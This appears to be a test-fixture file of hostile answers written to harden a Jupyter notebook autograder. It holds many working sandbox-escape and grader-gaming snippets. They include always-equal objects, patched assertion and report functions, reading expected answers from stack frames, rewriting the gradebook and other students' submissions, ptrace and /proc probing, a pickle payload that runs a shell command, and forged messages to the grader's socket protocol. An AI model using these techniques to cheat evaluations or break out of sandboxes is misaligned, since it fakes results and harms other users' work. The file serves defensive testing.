# Hostile answers to the exercises of course/: see autograder/corpus/attacks.py for the form, and for what @WORDS stand for.
#
#   # %% NAME | WHERE | SEVERITY [| earns nothing]
#
# WHERE is the exercise whose answer this is (the others are solved), or `first` or `last`: a cell of the student's own
# at that end of a notebook in which only `last` is solved. SEVERITY is the worst note that it must get: attack, odd, or
# none where an accident could look the same. The attacked exercise earns nothing, and the others what they are worth
# unless the attack spoils its own process. Wherever one of these succeeds it leaves a marker file, sends signal 0, or
# takes a few short-lived processes and at most 300 MB.

# ------------------------------------------------------------------------------------------ values that say yes

# %% equal-to-anything | equal | odd
class Yes:
    def __eq__(self, other):
        return True

def equal(x):
    return Yes()

# %% float-that-is-equal | equal | odd
class Yes(float):
    def __eq__(self, other):
        return True

def equal(x):
    return Yes(0)

# %% dict-that-is-equal | equal | odd
class Yes(dict):
    def __eq__(self, other):
        return True

def equal(x):
    return Yes()

# %% class-that-lies | equal | odd
class Yes:
    __class__ = property(lambda self: int)

    def __eq__(self, other):
        return True

def equal(x):
    return Yes()

# %% attribute-for-every-name | equal | odd
class Yes:
    def __getattribute__(self, name):
        return lambda *args: True

    __eq__ = __ne__ = __bool__ = lambda self, *other: True

def equal(x):
    return Yes()

# %% metaclass-that-is-equal | equal | odd
class Yes(type):
    __eq__ = lambda self, other: True
    __hash__ = type.__hash__

def equal(x):
    return Yes("Ten", (), {})

# %% reduce-that-runs | equal | odd
class Ten:
    def __reduce__(self):
        return open, ("@MARKER", "w")

    __eq__ = lambda self, other: True

def equal(x):
    return Ten()

# %% ufunc-that-agrees | close | odd
class Close(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.bool_(True)

    def __array_function__(self, function, types, args, kwargs):
        return True

def close(x):
    return np.zeros_like(x).view(Close)

# %% array-function-that-agrees | close | odd
class Close:
    shape, ndim, dtype = (2,), 1, np.dtype(float)

    def __array_function__(self, function, types, args, kwargs):
        return (2,) if function is np.shape else None if "assert" in function.__name__ else True

def close(x):
    return Close()

# %% array-that-looks-up-the-test | close | attack
import sys

class Close:
    def __array__(self, *args, **kwargs):
        frame = sys._getframe()
        while frame and "expected" not in frame.f_globals:
            frame = frame.f_back
        return np.array(frame.f_globals["expected"])

def close(x):
    return Close()

# %% array-interface-into-memory | close | odd
class Close:
    @property
    def __array_interface__(self):
        return dict(globals()["expected"].__array_interface__)

def close(x):
    return Close()

# %% no-number-that-agrees | close | odd
class Nan(float):
    __sub__ = __rsub__ = __abs__ = __mul__ = __add__ = lambda self, *other: self
    __le__ = __lt__ = __ge__ = __eq__ = lambda self, other: True

def close(x):
    return np.array([Nan("nan")] * len(x), dtype=object)

# %% subclass-at-import-of-numpy | close | odd
class Close(list):
    def __eq__(self, other):
        return np.array([True])

    __iter__ = lambda self: iter(expected)
    __len__ = lambda self: len(expected)

def close(x):
    return Close()

# %% empty-array | close | none
def close(x):
    return np.empty((0, len(x)))

# %% all-nan | close | none
def close(x):
    return x * np.nan

# ------------------------------------------------------------------------------------------ the test's own tools

# %% allclose-patched | close | odd
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None

def close(x):
    return x

# %% numpy-rebound | close | odd
class Fake:
    testing = type("testing", (), {"assert_allclose": lambda *args, **kwargs: None})
    array = np.array
    shape = lambda value: (2,)
    allclose = lambda *args, **kwargs: True

np = Fake

def close(x):
    return x

# %% check-replaced | gate | odd
import cs231n_lite

def check_gate(*args, **kwargs):
    report = Report("gate")
    with report.part("dx"):
        pass
    return report

cs231n_lite.check_gate = check_gate

class Times:
    pass

# %% points-patched | gate | odd
Report.points = lambda self, most: most
Report.score = Report.passed = 1.0

class Times:
    pass

# %% part-that-forgives | gate | odd
import contextlib

@contextlib.contextmanager
def part(self, name, slug="", weight=1.0):
    self.parts = {name: True}
    try:
        yield
    except BaseException:
        pass

Report.part = part
Report.__iadd__ = lambda self, other: self

class Times:
    pass

# %% asserts-dropped-by-a-transformer | equal | attack
import ast

class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(Drop())

def equal(x):
    return 0

# %% asserts-dropped-from-the-text | equal | attack
def drop(lines):
    return [line for line in lines if not line.startswith("assert")]

get_ipython().input_transformers_post.append(drop)

def equal(x):
    return 0

# %% told-by-an-event | equal | attack
def look(info):
    global test
    test = info.raw_cell

get_ipython().events.register("pre_run_cell", look)

def equal(x):
    import re
    known = {3: 10}
    xs, ys = re.search(r"in \((.*?)\)\] == \[(.*?)\]", test).groups()
    return (known | dict(zip(eval(f"[{xs}]"), eval(f"[{ys}]"))))[x]

# %% told-by-the-history | equal | attack
def equal(x):
    import re
    xs, ys = re.search(r"in \((.*?)\)\] == \[(.*?)\]", get_ipython().user_ns["In"][-1]).groups()
    return ({3: 10} | dict(zip(eval(f"[{xs}]"), eval(f"[{ys}]"))))[x]

# %% displays-rewritten | gate | attack
get_ipython().display_formatter.format = lambda *args, **kwargs: ({"text/plain": "2.0"}, {})

class Times:
    pass

# %% display-hook-replaced | gate | odd
import sys

hook = sys.displayhook
type(hook).__call__ = lambda self, value=None: self.shell.display_pub.publish({"text/plain": "2.0"})

class Times:
    pass

# %% result-shown-from-inside | gate | attack
class Times:
    def forward(self, x, y):
        get_ipython().displayhook(2.0)
        return 0

    def backward(self, dz):
        return 0, 0

# %% tracebacks-silenced | equal | attack
get_ipython().showtraceback = get_ipython()._showtraceback = lambda *args, **kwargs: None

def equal(x):
    return 0

# %% outputs-cleared | equal | attack
from IPython.display import clear_output

get_ipython().events.register("post_run_cell", lambda result: clear_output())

def equal(x):
    clear_output()
    return 0

# %% asserts-jumped-over | equal | attack
import sys

def trace(frame, event, argument):
    if "equal" in frame.f_code.co_names and event == "line":
        frame.f_lineno += 1
    return trace

def equal(x):
    sys._getframe(1).f_trace = trace
    sys.settrace(trace)
    return 0

# %% builtins-changed | equal | odd
import builtins

builtins.AssertionError = type("Never", (Warning,), {})
builtins.list = lambda *args: [5, 1, 50]
builtins.__build_class__, builtins.__import__ = None, None

def equal(x):
    return 10

# ------------------------------------------------------------------------------------------ looking for the answer

# %% expected-read-as-a-name | close | odd
def close(x):
    return expected

# %% expected-read-in-frames | close | attack
import sys

def close(x):
    frame = sys._getframe(1)
    while "expected" not in frame.f_globals:
        frame = frame.f_back
    return frame.f_globals["expected"]

# %% expected-found-by-the-collector | close | attack
import gc

def close(x):
    for thing in gc.get_objects():
        if type(thing) is dict and "expected" in thing:
            return thing["expected"]

# %% expected-found-by-a-traceback | close | odd
def close(x):
    try:
        raise KeyError
    except KeyError as error:
        frame = error.__traceback__.tb_frame.f_back
        return frame.f_globals["expected"]

# %% constants-of-the-caller | equal | attack
import sys

def equal(x):
    consts = [c for c in sys._getframe(1).f_code.co_consts if type(c) is int]
    return consts[-1] if consts else (5, 1, 50)[(-2, 0, 7).index(x)]

# %% tests-read-from-the-folder | equal | attack
def equal(x):
    import json, re
    cells = json.load(open("target.ipynb"))["cells"]
    text = "".join("".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == "equal-test")
    xs, ys = re.search(r"in \((.*?)\)\] == \[(.*?)\]", text).groups()
    return ({3: 10} | dict(zip(eval(f"[{xs}]"), eval(f"[{ys}]"))))[x]

# %% solution-read-from-the-source | equal | attack
import glob
import json

for path in glob.glob("@COURSE/source/*/target.ipynb"):
    for one in json.load(open(path))["cells"]:
        if one["metadata"].get("nbgrader", {}).get("grade_id") == "equal":
            exec("".join(one["source"]))

# %% folders-looked-through | equal | attack
import os

for where, folders, files in os.walk("/"):
    if where.count("/") > 4:
        folders.clear()
    if "target.ipynb" in files or "gradebook.db" in files:
        open("@MARKER", "w").close()
        break

def equal(x):
    return 0

# %% environment-printed | equal | attack
import os
import sys

print(sys.argv, dict(os.environ))
if any("nbgrader" in word.lower() for word in os.environ) or "JPY_PARENT_PID" in os.environ:
    open("@MARKER", "w").close()

def equal(x):
    return 0

# %% gradient-by-the-instrument | gate | odd
from cs231n_lite import numerical_gradient

class Times:
    def forward(self, x, y):
        self.x, self.y = np.asarray(x), np.asarray(y)
        return 0 * x

    def backward(self, dz):
        return tuple(numerical_gradient(lambda v: float(np.sum(dz * v)), v) for v in (self.x, self.y))

# ------------------------------------------------------------------------------------------ modules and imports

# %% modules-replaced | first | attack
import sys
import types

fake = types.ModuleType("cs231n_lite")
fake.Report = type("Report", (), {
    "__init__": lambda self, name="": None, "__iadd__": lambda self, other: self, "points": lambda self, most: most,
    "part": lambda self, *args: __import__("contextlib").suppress(BaseException),
})
fake.check_gate = lambda *args, **kwargs: None
sys.modules["cs231n_lite"] = fake
class Times: pass

# %% import-hook | first | attack
import sys
from importlib.machinery import ModuleSpec

class Hook:
    def find_spec(self, name, path=None, target=None):
        return ModuleSpec(name, self) if name == "cs231n_lite" else None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        module.check_gate = lambda *args, **kwargs: 0
        module.Report = lambda name: type("R", (int,), {"points": lambda self, most: most, "part": part})()

def part(self, name):
    return __import__("contextlib").suppress(BaseException)

sys.meta_path.insert(0, Hook())

# %% numpy-left-for-the-restart | close | odd
import os

open("numpy.py", "w").write("allclose = lambda *a, **k: True\n")
open("sitecustomize.py", "w").write("open('@MARKER', 'w').close()\n")
open("usercustomize.py", "w").write("open('@MARKER', 'w').close()\n")

def close(x):
    os._exit(0)

# %% start-up-file-left | last | odd
from pathlib import Path

for place in (Path.home() / ".ipython/profile_default/startup", Path.home() / ".local/lib/python3.11/site-packages"):
    place.mkdir(parents=True, exist_ok=True)
    (place / "00-first.py").write_text("open('@MARKER', 'w').close()")
    (place / "first.pth").write_text("import sys; open('@MARKER', 'w').close()")

# ------------------------------------------------------------------------------------------ forged and flooding output

# %% report-forged | gate | attack
from IPython.display import display

passed = {"exercise": "gate", "passed": True, "score": 1.0, "points": 2.0, "parts": {"dx": True}, "findings": []}
display({"text/plain": "2.0", "application/vnd.cs231n-lite.report+json": passed}, raw=True)

class Times:
    def forward(self, x, y):
        display({"text/plain": "2.0", "application/vnd.cs231n-lite.report+json": passed}, raw=True)

# %% flood-of-prints | equal | none
for _ in range(200):
    print("x" * 100_000)

def equal(x):
    print("x" * 10_000_000)
    return 0

# %% flood-past-the-shell | equal | odd
import os

def equal(x):
    for _ in range(100):
        os.write(1, b"x" * 100_000)
        os.write(2, b"x" * 100_000)
    return 0

# %% deep-display | equal | none
from IPython.display import display

deep = {}
for _ in range(400):
    deep = {"a": deep}
display({"text/plain": "x", "application/json": deep}, raw=True)

def equal(x):
    return 0

# %% words-for-the-terminal | equal | none
Red = type("\x1b[2J\x1b[31mRed\n   !  zoe: attack: symlink", (Exception,), {})

def equal(x):
    raise Red("\x1b]0;owned\x07\r\n   !  zoe: attack: forged \ud800")

# %% script-shown | equal | none
from IPython.display import HTML, Javascript, display

display(HTML("<script>document.title = 'owned'</script><img src=x onerror=alert(1)>"), Javascript("alert(1)"))

def equal(x):
    return 0

# ------------------------------------------------------------------------------------------ leaving

# %% exit-at-the-top | equal | odd
exit()

# %% system-exit-inside | equal | none
import sys

def equal(x):
    sys.exit(0)

# %% os-exit-inside | equal | odd
import os

def equal(x):
    os._exit(0)

# %% abort-inside | equal | odd
import os

def equal(x):
    os.abort()

# %% killed-by-itself | equal | odd
import os
import signal

def equal(x):
    os.kill(os.getpid(), signal.SIGKILL)

# %% interrupt-raised | equal | none
def equal(x):
    raise KeyboardInterrupt

# %% own-kind-of-exception | equal | none
class Out(BaseException):
    __str__ = __repr__ = None

def equal(x):
    raise Out

# %% at-exit | equal | odd
import atexit

atexit.register(lambda: open("@MARKER", "w").close())

def equal(x):
    return 0

# %% finaliser | equal | odd
class Late:
    def __del__(self):
        open("@MARKER", "w").close()

late = Late()

def equal(x):
    return Late()

# ------------------------------------------------------------------------------------------ processes

# %% signal-to-the-parent | equal | attack
import os

try:
    os.kill(os.getppid(), 0)
    open("@MARKER", "w").close()
except OSError:
    pass

def equal(x):
    return 0

# %% signal-to-everybody | equal | odd
import os

try:
    os.kill(-1, 0)
    open("@MARKER", "w").close()
except OSError:
    pass

def equal(x):
    return 0

# %% many-processes | equal | odd
import os
import time

children = 0
for _ in range(40):
    try:
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        children += 1
    except OSError:
        break
if children == 40:
    open("@MARKER", "w").close()

def equal(x):
    return 0

# %% process-that-stays | equal | odd
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1.5)
        open("@MARKER", "w").close()
    os._exit(0)

def equal(x):
    return 0

# %% thread-that-waits | close | odd
import threading
import time

def later():
    time.sleep(0.2)
    np.allclose = np.testing.assert_allclose = lambda *args, **kwargs: True
    open("@MARKER", "w").close()

threading.Thread(target=later, daemon=True).start()

def close(x):
    time.sleep(0.4)
    return x

# %% memory-taken | equal | none
def equal(x):
    held = [bytearray(b"x" * (20 << 20)) for _ in range(15)]
    return len(held)

# %% debugger-on-the-parent | equal | attack
import ctypes
import os

SEIZE, DETACH = 0x4206, 17
libc = ctypes.CDLL(None)
if libc.ptrace(SEIZE, os.getppid(), 0, 0) == 0:
    libc.ptrace(DETACH, os.getppid(), 0, 0)
    open("@MARKER", "w").close()

def equal(x):
    return 0

# %% processes-looked-through | equal | attack
import glob
import os

for path in glob.glob("/proc/[0-9]*"):
    try:
        words = open(path + "/environ").read() + open(path + "/cmdline").read() + os.readlink(path + "/cwd")
        if "nbgrader" in words or "@COURSE" in words:
            open("@MARKER", "w").close()
    except OSError:
        pass

def equal(x):
    return 0

# %% file-by-the-way-of-proc | equal | attack
import glob

for root in [*glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd")]:
    for there in ("", "/../../../.."):
        try:
            open(root + there + "@MARKER", "w").close()
        except OSError:
            pass

def equal(x):
    return 0

# ------------------------------------------------------------------------------------------ network

# %% connection | equal | attack
import socket

try:
    socket.create_connection(("127.0.0.1", int("@PORT")), timeout=1).send(b"@NAME")
except OSError:
    pass

def equal(x):
    return 0

# %% question-by-dns | equal | attack
import socket

try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@NAME.example", ("127.0.0.1", int("@PORT")))
    socket.getaddrinfo("localhost", 80)
except OSError:
    pass

def equal(x):
    return 0

# %% connection-without-a-port | equal | attack
import socket

try:
    end = socket.socket(socket.AF_UNIX)
    end.connect("\0attack-@PORT")
    end.send(b"@NAME")
except OSError:
    pass

def equal(x):
    return 0

# %% page-fetched | equal | attack
import urllib.request

try:
    urllib.request.urlopen("http://127.0.0.1:@PORT/@NAME", timeout=1)
except OSError:
    pass

def equal(x):
    return 0

# ------------------------------------------------------------------------------------------ files

# %% file-outside | equal | odd
def equal(x):
    open("@MARKER", "w").close()
    return 0

# %% file-in-shared-memory | equal | attack
for place in ("/dev/shm/attack-@NAME", "/tmp/attack-@NAME", "/var/tmp/attack-@NAME"):
    try:
        open(place, "w").close()
    except OSError:
        pass

def equal(x):
    return 0

# %% gradebook-written | gate | attack
import sqlite3

book = sqlite3.connect("@COURSE/gradebook.db", timeout=1)
book.execute("UPDATE grade SET manual_score = 2.0")
book.commit()
open("@MARKER", "w").close()

# %% neighbour-spoiled | equal | attack
from pathlib import Path

for path in Path("@COURSE/submitted").glob("zoe/*/*.ipynb"):
    path.write_text("{}")
    open("@MARKER", "w").close()

# %% tests-rewritten | gate | attack
from pathlib import Path

for path in Path("@COURSE").glob("source/*/target.ipynb"):
    path.write_text(path.read_text().replace("report.points(2)", "2.0"))
    open("@MARKER", "w").close()

# %% graded-work-rewritten | equal | attack
from pathlib import Path

for path in Path("@COURSE/autograded").glob("*/*/*.ipynb"):
    path.write_text("{}")
    open("@MARKER", "w").close()

# %% link-left-behind | equal | odd
import os

os.symlink("@COURSE", "notes")
os.link("/etc/hostname", "hard") if os.access("/etc/hostname", os.W_OK) else None
open("notes/" + "@MARKER".rsplit("/", 1)[-1], "w").close()

# %% disk-filled | equal | none
with open("large", "wb") as file:
    for _ in range(100):
        file.write(b"x" * (1 << 20))
open("@MARKER", "w").close()

# %% shell-command | equal | odd
!touch @MARKER

# %% shell-cell | equal | odd
%%bash
touch @MARKER

# ------------------------------------------------------------------------------------------ the wire, by hand

# %% @WIRE
import json
import os
import select
import socket
import struct

def wires():
    """Every stream socket that this process has."""
    for number in range(3, 64):
        try:
            end = socket.socket(fileno=os.dup(number))
            end.getpeername()
            yield end
        except OSError:
            pass

def say(message, block=b"", size=None):
    text = message if isinstance(message, bytes) else json.dumps(message).encode()
    for end in wires():
        end.send(struct.pack("<IQ", len(text) if size is None else size, len(block)) + text + block)

def turn():
    """The number of the question that is being answered."""
    import sys
    frame = sys._getframe()
    while frame:
        number = getattr(frame.f_locals.get("self"), "seq", None)
        if isinstance(number, int):
            return number
        frame = frame.f_back
    return 1

# %% answer-to-no-question | equal | attack
@WIRE
def equal(x):
    say({"seq": 10**6, "value": 10})

# %% answers-before-the-questions | equal | attack
@WIRE
for number in range(1, 60):
    say({"seq": number, "value": 10})

# %% tag-of-its-own | equal | attack
@WIRE
def equal(x):
    say({"seq": turn(), "value": ["pickle", "cposix\nsystem\n(S'touch @MARKER'\ntR."]})

# %% message-broken-off | equal | attack
@WIRE
def equal(x):
    say({"seq": turn(), "value": 10}, size=10_000)
    os._exit(0)

# %% two-answers | equal | attack
@WIRE
def equal(x):
    say({"seq": turn(), "value": 10})
    say({"seq": turn() + 1, "value": 10})
    return 10

# %% header-of-four-gigabytes | equal | attack
@WIRE
def equal(x):
    say(b"{}", size=2**32 - 1)

# %% array-longer-than-its-message | close | attack
@WIRE
def close(x):
    say({"seq": turn(), "value": ["a", "<f8", [10**9], 0, "C", True, 1]}, b"12345678")

# %% array-of-negative-size | close | attack
@WIRE
def close(x):
    say({"seq": turn(), "value": ["a", "<f8", [-1, -3], -8, "C", True, 1]}, b"12345678")

# %% array-of-objects | close | attack
@WIRE
def close(x):
    say({"seq": turn(), "value": ["a", "|O8", [1], 0, "C", True, 1]}, b"\x01" * 8)

# %% message-nested-without-end | equal | attack
@WIRE
def equal(x):
    say(b'{"seq": 1, "value": ' + b"[" * 100_000)

# %% function-never-given | equal | attack
@WIRE
def equal(x):
    say({"seq": turn(), "callback": 10**6, "args": [], "kwargs": {}})

# %% arguments-rewritten | close | attack
@WIRE
def close(x):
    zeros = ["a", "<f8", [3], 0, "C", True, 0]
    say({"seq": turn(), "value": zeros, "changed": [[0, zeros]], "later": [[n, zeros] for n in range(50)]}, bytes(24))

# %% keys-that-collide | equal | attack
@WIRE
def equal(x):
    keys = [n * (2**61 - 1) for n in range(1, 90_000)]
    say({"seq": turn(), "value": ["d", *(part for key in keys for part in (key, 0))]})

# %% byte-by-byte | equal | attack
@WIRE
import time
for end in wires():
    for byte in struct.pack("<IQ", 10_000, 0) + b" " * 10_000:
        end.send(bytes([byte]))
        time.sleep(0.05)

# %% wire-closed | equal | odd
import os

def equal(x):
    os.closerange(3, 64)
    return 10

# %% wire-kept-by-a-child | equal | odd
import os
import time

def equal(x):
    if os.fork() == 0:
        time.sleep(20)
    os._exit(0)

# %% server-replaced | equal | attack
import sys
import autograder.inside.student

for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for kind in vars(module).values():
            if isinstance(kind, type) and hasattr(kind, "answer"):
                kind.answer = lambda self, message, block: self.wire.send({"seq": message["seq"], "value": 10})

# ------------------------------------------------------------------------------------------ replies too large or too odd

# %% giant-reply | equal | none
def equal(x):
    return [0] * 5_000_000

# %% giant-text | equal | none
def equal(x):
    return "x" * 100_000_000

# %% deep-reply | equal | none
def equal(x):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep

# %% cyclic-reply | equal | none
def equal(x):
    round = []
    round.append(round)
    return round

# %% long-number | equal | none
def equal(x):
    return 10 << 10_000_000

# %% endless-sequence | close | none
class Long:
    def __len__(self):
        return 10**9

    def __getitem__(self, place):
        return 0.0

def close(x):
    return Long()

# ------------------------------------------------------------------------------------------ time

# %% sleep | equal | none
import time

def equal(x):
    time.sleep(3600)

# %% endless-loop | equal | none
def equal(x):
    while True:
        pass

# %% loop-deaf-to-interrupts | equal | odd
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)

def equal(x):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass

# %% slow-picture-of-itself | equal | none
class Slow:
    def __repr__(self):
        while True:
            pass

def equal(x):
    return 0

Slow()

# %% cell-that-never-ends | equal | none
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
